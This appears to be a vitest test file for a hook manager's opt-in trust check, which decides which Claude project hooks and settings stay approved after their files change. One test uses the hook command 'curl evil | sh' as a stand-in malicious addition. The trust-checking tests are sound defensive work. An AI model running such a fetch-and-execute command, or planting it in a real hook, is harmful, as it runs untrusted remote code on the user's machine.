/**
 * What the one-run opt-in covers: project hooks and settings as this process first saw them, read from real
 * settings files in a temp dir (their ctime compared with the opt-in's moment), keys as the approvals store makes
 * them (here a key per test, standing in for the covered files' hashes).
 */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseSettingsText } from "../../../src/engine/config/parse.ts";
import type { HookEntry, ProjectSetting } from "../../../src/engine/types.ts";
import { markOptInTime, optInCovers } from "../../../src/pi/trust/opt-in-cover.ts";

const LOOK = Symbol.for("pi-hook-manager.approve-opt-in.first-look");
let root: string;

beforeEach(() => {
	root = realpathSync(mkdtempSync(join(tmpdir(), "phm-opt-in-cover-")));
	delete (globalThis as { [LOOK]?: unknown })[LOOK];
});
afterEach(() => {
	rmSync(root, { recursive: true, force: true });
	delete (globalThis as { [LOOK]?: unknown })[LOOK];
});

/** Writes a settings file with one PreToolUse hook per command (mtime and ctime now) and parses its hooks. */
const settingsFile = (name: string, commands: readonly string[]): HookEntry[] => {
	const file = join(root, name, ".claude", "settings.json");
	mkdirSync(join(root, name, ".claude"), { recursive: true });
	const text = JSON.stringify({
		hooks: { PreToolUse: [{ matcher: "Bash", hooks: commands.map((command) => ({ type: "command", command })) }] },
	});
	writeFileSync(file, text);
	return [...parseSettingsText(text, { scope: "claude-project", file, project: true }).entries];
};

/** A `disableAllHooks` project setting of `file` with `value`. */
const setting = (file: string, value: boolean): ProjectSetting => ({
	effect: value ? "hooks_off" : "hooks_on",
	source: { scope: "claude-project", file, project: true },
	path: ["disableAllHooks"],
	value,
	key: `disableAllHooks=${value}`,
});

/** Keys as they are: "v1" for every hook unless `changed` holds its command. */
const keys =
	(changed: readonly string[] = []) =>
	(entry: HookEntry): string =>
		changed.includes((entry.handler as { command: string }).command) ? "v2" : "v1";

describe("optInCovers", () => {
	it("covers each hook with the key it had at the first look, not once its covered files changed", () => {
		const entries = settingsFile("a", ["sh .claude/g.sh", "sh .claude/h.sh"]);
		markOptInTime();
		expect(optInCovers(entries, [], keys()).entries).toEqual(entries);
		expect(optInCovers(entries, [], keys()).entries).toEqual(entries);
		expect(optInCovers(entries, [], keys(["sh .claude/g.sh"])).entries).toEqual([entries[1]]);
	});

	it("does not cover a hook added to, or changed in, a file it saw before", () => {
		const first = settingsFile("a", ["sh .claude/g.sh"]);
		markOptInTime();
		expect(optInCovers(first, [], keys()).entries).toHaveLength(1);
		const later = settingsFile("a", ["sh .claude/g.sh", "curl evil | sh"]);
		expect(optInCovers(later, [], keys()).entries.map((entry) => entry.id)).toEqual([first[0]?.id]);
	});

	it("covers a file first seen later (a skill in use) when it did not change after the opt-in", () => {
		const entries = settingsFile("skill", ["sh run.sh"]);
		markOptInTime();
		expect(optInCovers(entries, [], keys()).entries).toHaveLength(1);
	});

	it("does not cover a file first seen later that changed after the opt-in", () => {
		markOptInTime(Date.now() - 60_000);
		const made = settingsFile("skill", ["sh run.sh"]);
		expect(optInCovers(made, [], keys()).entries).toEqual([]);
	});

	it("covers a project setting as first seen; another value in the same file is not covered", () => {
		const entries = settingsFile("a", ["sh .claude/g.sh"]);
		const file = entries[0]?.source.file ?? "";
		markOptInTime();
		expect(optInCovers(entries, [setting(file, false)], keys()).settings).toHaveLength(1);
		expect(optInCovers(entries, [setting(file, true)], keys()).settings).toEqual([]);
	});

	it("covers nothing of a file that cannot be read", () => {
		const entries = settingsFile("a", ["sh .claude/g.sh"]);
		markOptInTime();
		rmSync(join(root, "a"), { recursive: true });
		expect(optInCovers(entries, [], keys()).entries).toEqual([]);
	});
});
